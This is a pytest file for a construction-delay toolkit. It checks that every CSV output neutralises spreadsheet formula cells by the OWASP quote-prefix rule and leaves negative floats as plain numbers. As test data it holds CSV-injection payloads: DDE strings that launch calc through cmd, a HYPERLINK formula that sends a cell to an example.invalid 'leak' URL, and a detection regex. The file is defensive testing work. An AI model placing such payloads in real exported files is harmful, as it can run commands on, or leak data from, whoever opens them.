"""CSV injection: no CSV the toolkit writes as an output holds a cell a spreadsheet would run.

Reference: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection), recalled
from memory: a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage
return (0x0D) may be run as a formula by a spreadsheet; the recommended defence is to
prefix such a cell with a single quote. The project's own rules on top (delay/output.py
module docstring): numbers stay numbers, and text that reads as a plain decimal number
(``-3``, ``+2.5``, ``-1e3``) is left as it is; the workbook keeps the text as a typed
string; the case's own input files are not neutralised. Python's csv module reads the files
back.

The hostile case: the small case of tests/test_report.py with names and titles that
are formulas, a column the toolkit does not know (``note``), and a contract completion two
work days before the planned one with floats counted to it, so that total float is
negative: A and B (planned to finish Friday 2025-01-17) against Wednesday 2025-01-15 carry
-2 work days of float (common practice: float = late finish - early finish), a number that
must stay a plain ``-2``.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from casewriter import write_case
from click.testing import CliRunner
from test_report import ASBUILT, LINKS

from delay.cli import cli
from delay.output import copy_csv, csv_safe, csv_text, neutralise
from reports.tables import canonical_csv

HOSTILE = {
    "A": '=HYPERLINK("http://example.invalid/?leak="&A1,"Details")',
    "B": "+1+1",
    "C": "-2+3+cmd|' /C calc'!A0",
    "D": "@SUM(A1:A9)",
}
EVENT_TITLE = "=cmd|' /C calc'!A0"
NOTE = "-note of the planner"

ACTIVITIES = [
    {"id": "START", "name": "Possession", "duration": 0, "kind": "start_milestone", "wbs": "1", "note": ""},
    {"id": "A", "name": HOSTILE["A"], "duration": 5, "wbs": "1", "note": NOTE},
    {"id": "B", "name": HOSTILE["B"], "duration": 5, "wbs": "2", "note": "@mention"},
    {"id": "C", "name": HOSTILE["C"], "duration": 2, "wbs": "2", "note": ""},
    {"id": "D", "name": HOSTILE["D"], "duration": 1, "wbs": "2", "note": ""},
    {"id": "END", "name": "Completion", "duration": 0, "kind": "finish_milestone", "wbs": "2", "note": ""},
]
CASE_LINKS = LINKS[:2] + [
    {"pred": "B", "succ": "END"},
    {"pred": "A", "succ": "C"},
    {"pred": "C", "succ": "END"},
    {"pred": "A", "succ": "D"},
    {"pred": "D", "succ": "END"},
]
UPDATE = [
    dict(ACTIVITIES[0], actual_start="2025-01-06"),
    dict(ACTIVITIES[1], actual_start="2025-01-06", actual_finish="2025-01-10"),
    *ACTIVITIES[2:],
]
EVENTS = [
    {
        "id": "E1",
        "title": EVENT_TITLE,
        "party": "employer",
        "start": "2025-01-13",
        "finish": "2025-01-22",
        "activities": "B",
        "impact": "extend",
        "days": 3,
    }
]
BUILT = ASBUILT[:3] + [
    {"id": "C", "actual_start": "2025-01-13", "actual_finish": "2025-01-14"},
    {"id": "D", "actual_start": "2025-01-13", "actual_finish": "2025-01-13"},
    ASBUILT[3],
]

#: A cell a spreadsheet would run (OWASP's list), unless it is a plain decimal number.
DANGEROUS = re.compile(r"[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\Z")


def hostile_case(root: Path) -> Path:
    return write_case(
        root,
        activities=ACTIVITIES,
        links=CASE_LINKS,
        completion="2025-01-15",
        schedule={"float_to": "contract_completion"},
        commercial={"currency": "EUR", "prolongation_cost_per_day": 100},
        snapshots={"u01": {"label": "Update 01", "data_date": "2025-01-13", "activities": UPDATE}},
        files={"events.csv": EVENTS, "asbuilt.csv": BUILT},
    )


def cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def unsafe(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell and DANGEROUS.match(cell[0]) and not PLAIN_NUMBER.match(cell)]


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)


# -- the rule --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tleading tab", "'\tleading tab"),
        ("\rleading return", "'\rleading return"),
        ("-", "'-"),
        ("- a bullet", "'- a bullet"),
        ("+", "'+"),
        # plain decimal numbers as text: a spreadsheet reads them as numbers and runs nothing
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        ("-0", "-0"),
        # not plain numbers
        ("-1,5", "'-1,5"),
        ("-0x1F", "'-0x1F"),
        ("-inf", "'-inf"),
        ("-3 days", "'-3 days"),
        # harmless starts
        ("Dig", "Dig"),
        ("", ""),
        (" =1+1", " =1+1"),
        ("1-2", "1-2"),
        ("'=already", "'=already"),
    ],
)
def test_neutralise_follows_the_owasp_prefix_rule(text, expected):
    assert neutralise(text) == expected


def test_numbers_stay_numbers_and_text_is_neutralised_in_frames():
    frame = pd.DataFrame(
        {
            "total_float": [-2, 0, 3],
            "cost": [-1.5, 2.0, float("nan")],
            "name": ["=x", "-2", None],
            "mixed": [-4, "=y", 1.5],
            "=header": ["a", "b", "c"],
        }
    )
    text = csv_text(frame)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["total_float", "cost", "name", "mixed", "'=header"]
    assert rows[1:] == [["-2", "-1.5", "'=x", "-4", "a"], ["0", "2.0", "-2", "'=y", "b"], ["3", "", "", "1.5", "c"]]
    assert frame["name"].tolist()[0] == "=x", "the frame given is not changed"
    assert list(csv_safe(frame)["total_float"]) == [-2, 0, 3]
    # the report's canonical CSV follows the same rule
    canonical = list(csv.reader(io.StringIO(canonical_csv(frame))))
    assert canonical[1] == ["-2", "-1.5", "'=x", "-4", "a"] and canonical[0][-1] == "'=header"
    assert canonical_csv(pd.DataFrame({"events": [["=E1", "E2"]]})).splitlines()[1] == "'=E1;E2"


def test_a_case_file_copied_among_the_outputs_is_neutralised(tmp_path):
    source = tmp_path / "elements.csv"
    source.write_text('id,name,x\nW1,"=HYPERLINK(""x"")",-1.25\n', encoding="utf-8")
    copy_csv(source, tmp_path / "out.csv")
    assert cells(tmp_path / "out.csv") == [["id", "name", "x"], ["W1", '\'=HYPERLINK("x")', "-1.25"]]
    assert source.read_text(encoding="utf-8").startswith('id,name,x\nW1,"=HYPERLINK'), "the input is unchanged"


# -- every CSV of delay demo and delay report --------------------------------------------------------
@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    case = hostile_case(folder / "case")
    assert run("validate", case).exit_code == 0
    assert run("demo", "--case", case, "--out", folder / "demo").exit_code == 0
    assert run("report", case, "--out", folder / "report").exit_code == 0
    return folder


def test_no_csv_of_demo_or_report_holds_a_cell_a_spreadsheet_would_run(outputs):
    files = sorted((outputs / "demo").rglob("*.csv")) + sorted((outputs / "report").rglob("*.csv"))
    assert len(files) > 20
    found = {str(p.relative_to(outputs)): unsafe(cells(p)) for p in files}
    assert {k: v for k, v in found.items() if v} == {}
    every = [cell for p in files for row in cells(p) for cell in row]
    # the hostile text is there, neutralised, not dropped
    for text in [*HOSTILE.values(), EVENT_TITLE]:
        assert "'" + text in every, text
    assert any(
        "'" + EVENT_TITLE in cell
        for p in (outputs / "report" / "tables").glob("*.csv")
        for row in cells(p)
        for cell in row
    )


def test_negative_floats_stay_plain_numbers(outputs):
    rows = cells(outputs / "demo" / "schedules" / "baseline.csv")
    header, body = rows[0], rows[1:]
    floats = {row[header.index("activity")]: row[header.index("total_float")] for row in body}
    assert floats["A"] == "-2" and floats["B"] == "-2"
    assert not any(
        cell.startswith("'-") and PLAIN_NUMBER.match(cell[1:])
        for p in (outputs / "report").rglob("*.csv")
        for row in cells(p)
        for cell in row
    ), "a number never gets the apostrophe"


def test_the_workbook_keeps_the_text_as_typed_strings(outputs):
    from openpyxl import load_workbook

    book = load_workbook(outputs / "report" / "tables.xlsx")
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (*HOSTILE.values(), EVENT_TITLE):
                    found.setdefault(cell.value, set()).add(cell.data_type)
    assert set(found) == {*HOSTILE.values(), EVENT_TITLE}
    assert all(types == {"s"} for types in found.values()), found


def test_schedule_csv_is_neutralised_and_carries_the_unknown_columns(outputs):
    result = run("schedule", outputs / "case", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    header = rows[0]
    assert header[-1] == "note", "the column the toolkit does not know comes along (README)"
    by_id = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    assert by_id["A"]["name"] == "'" + HOSTILE["A"] and by_id["A"]["note"] == "'" + NOTE
    assert by_id["B"]["note"] == "'@mention" and by_id["A"]["total_float"] == "-2"
    assert unsafe(rows) == []


# -- the case's own input files are not neutralised ------------------------------------------------
def test_import_ifc_writes_the_models_names_into_the_case_as_they_are(tmp_path):
    pytest.importorskip("ifcopenshell")
    from test_ifc_import import ModelBuilder, placement

    builder = ModelBuilder()
    builder.element(
        "IfcWall", HOSTILE["A"], matrix=placement(0, 0, 0), representation=builder.wall(6.0, 3.0, 0.2), code="1"
    )
    model = tmp_path / "model.ifc"
    builder.model.write(str(model))
    case = hostile_case(tmp_path / "case")
    done = run("import-ifc", model, case, "--code-property", "TestCodes.WorkPackage")
    assert done.exit_code == 0, done.output
    rows = cells(case / "elements.csv")
    names = [dict(zip(rows[0], row))["name"] for row in rows[1:]]
    # an input of the toolkit: the name as the model gives it, read back the same by the loader
    assert names == [HOSTILE["A"]]
    from delay.case import load_case

    assert list(load_case(case).elements["name"]) == [HOSTILE["A"]]
